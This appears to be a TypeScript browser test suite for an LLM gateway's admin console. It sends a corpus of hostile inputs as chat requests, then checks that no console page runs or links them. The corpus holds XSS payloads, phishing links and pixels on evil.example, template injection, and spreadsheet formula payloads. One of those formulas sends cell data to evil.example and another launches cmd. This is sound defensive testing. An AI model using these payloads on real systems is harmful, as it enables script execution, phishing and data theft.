/** Prompts, names and headers that attack whoever reads them, through every page of the console. */
import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { builtConsole, openConsole, startBrowser } from '../support/console.ts'
import { startWorld } from '../support/world.ts'

/** Each would call `boom`, load something, or disturb the text around it, in some reader. */
const corpus = [
  '<script>boom()</script>',
  '<img src=x onerror=boom()>',
  '<svg/onload=boom()>',
  '"><iframe srcdoc="<script>parent.boom()</script>">',
  '<style>@import url(http://evil.example/style.css)</style>',
  '<form action=http://evil.example><button>Sign in again</button></form>',
  '[click me](javascript:boom())',
  '[your bank](http://evil.example/login)',
  '![pixel](http://evil.example/pixel.png)',
  '[ref]: javascript:boom()\n[ref]',
  '<http://evil.example/auto>',
  '{{constructor.constructor("boom()")()}} ${boom()}',
  '=HYPERLINK("http://evil.example?"&A1,"open")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\u202egnp.exe\u202c and \u2066hidden\u2069',
  '\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  '\u0000\u0008\ufeff\u200b',
  `${'>'.repeat(3_000)} deep`,
  `${'* '.repeat(2_000)}deep list`,
  '`'.repeat(5_000),
  'a'.repeat(20_000),
  '\ud800 lone surrogate',
] as const

const all = corpus.join('\n\n')
const asHeader = (text: string): string => text.replace(/[^\x20-\x7e]/g, '').slice(0, 200)

const world = await startWorld({ after }, { parts: { consoleDirectory: builtConsole } })
const browser = await startBrowser({ after })
const admin = world.house.admin?.url ?? ''

await send('gpt-4o', asHeader(corpus[0]), {
  messages: [
    { role: 'system', content: all },
    { role: '<img src=x onerror=boom()>', content: all },
    {
      role: 'user',
      content: [
        { type: 'text', text: all },
        { type: 'image_url', image_url: { url: 'http://evil.example/image.png' } },
        { type: 'image_url', image_url: { url: `data:image/svg+xml,${encodeURIComponent(corpus[2])}` } },
        { type: 'image_url', image_url: { url: 'data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=' } },
        { type: 'file', file: { filename: corpus[3], file_data: 'data:text/html,boom' } },
        { type: 'input_audio', input_audio: { data: corpus[1], format: 'wav' } },
      ],
    },
    {
      role: 'assistant',
      content: null,
      tool_calls: [{ id: corpus[4], type: 'function', function: { name: corpus[5], arguments: all } }],
    },
    { role: 'tool', tool_call_id: corpus[4], content: all },
    ...corpus.map(content => ({ role: 'user', content })),
  ],
})
await send('<img src=x onerror=boom()>', asHeader(corpus[12]), { messages: [{ role: 'user', content: all }] })

/** What the gateway or the backend answers does not matter here: each call leaves a record. */
async function send(model: string, userAgent: string, body: object): Promise<void> {
  const response = await fetch(`${world.url}/main/hr-bot/openai/v1/chat/completions`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${await world.token('alice')}`,
      'content-type': 'application/json',
      'user-agent': userAgent,
    },
    body: JSON.stringify({ model, ...body }),
  })
  await response.arrayBuffer()
}

async function ids(): Promise<readonly string[]> {
  const headers = { authorization: `Bearer ${await world.token('carol')}` }
  const response = await fetch(`${admin}/api/v1/records?limit=10`, { headers })
  const { records } = (await response.json()) as { readonly records: readonly { readonly id: string }[] }
  return records.map(({ id }) => id)
}

// An auditor reads what attackers wrote, with a session that may read everybody's prompts.
test('nothing that a caller wrote runs, loads, or leaves the page, on whichever page it is shown', async () => {
  const { page, faults, context } = await openConsole(browser, { admin, person: 'carol' })
  const ran: string[] = []
  await context.exposeFunction('boom', () => void ran.push(page.url()))
  const records = await ids()
  assert.equal(records.length, 2)
  const views = records.flatMap(id =>
    ['conversation', 'raw', 'again', 'facts'].map(view => `/records/${id}?view=${view}`),
  )
  const [newest = '', oldest = ''] = records
  views.push(`/records/${newest}?view=compare&with=${oldest}`)
  const lists = [
    '/',
    '/?by=caller',
    '/?by=model',
    '/instances',
    '/limits',
    '/cost?by=caller',
    '/cost?by=model',
    '/feeds',
    '/audit',
    ...corpus.slice(0, 2).map(text => `/query?sql=${encodeURIComponent(text)}`),
    '/people',
    '/workloads/hr-bot',
    ...corpus.slice(0, 2).map(text => `/playground?deployment=${encodeURIComponent(text)}`),
    ...records.map(id => `/explain?record=${id}`),
    ...corpus.slice(0, 4).map(text => `/explain?model=gpt-4o&caller=self&url=${encodeURIComponent(text)}`),
    '/records?columns=time,outcome,caller,model,client,deployment',
    ...corpus.slice(0, 3).map(text => `/records?workload=hr-bot&text=${encodeURIComponent(text)}`),
    ...corpus.slice(0, 16).map(text => `/records?caller=${encodeURIComponent(text)}`),
  ]
  for (const address of [...lists, ...views]) {
    await page.goto(`${admin}${address}`)
    await page.getByRole('heading', { level: 1 }).waitFor()
    const reason = page.getByRole('textbox', { name: /Why do you read it/ })
    if (/view=(?!facts)|[?&]text=/.test(address)) {
      await reason.or(page.getByText('Be brief')).or(page.locator('pre')).or(page.locator('bdi')).first().waitFor()
      if (await reason.isVisible()) {
        await reason.fill('A question of the works council')
        await page.getByRole('button', { name: /^(Read|Search)$/ }).click()
      }
    }
    await page.getByRole('status', { name: 'Loading' }).first().waitFor({ state: 'detached' })
    assert.deepEqual([...faults, ...ran], [], address)
  }
  assert.equal(
    await page.getByText('evil.example').locator('xpath=ancestor-or-self::a').count(),
    0,
    'no link leads there',
  )
  await context.close()
})

test('a link of a body shows its whole address before it is followed, and only addresses of the web are followed', async () => {
  const { page, faults, context } = await openConsole(browser, { admin, person: 'carol' })
  const [, id = ''] = await ids()
  await page.goto(`${admin}/records/${id}`)
  await page.getByRole('textbox', { name: /Why do you read it/ }).fill('A question of the works council')
  await page.getByRole('button', { name: 'Read', exact: true }).click()
  await page.getByRole('button', { name: 'your bank' }).first().click()
  const dialog = page.getByRole('dialog')
  await dialog.getByText('http://evil.example/login', { exact: true }).waitFor()
  const link = dialog.getByRole('link')
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow')
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'click me' }).first().click()
  await page.getByText('It is not an address of the web').waitFor()
  assert.equal(await page.getByRole('dialog').getByRole('link').count(), 0)
  assert.deepEqual(faults, [])
  await context.close()
})
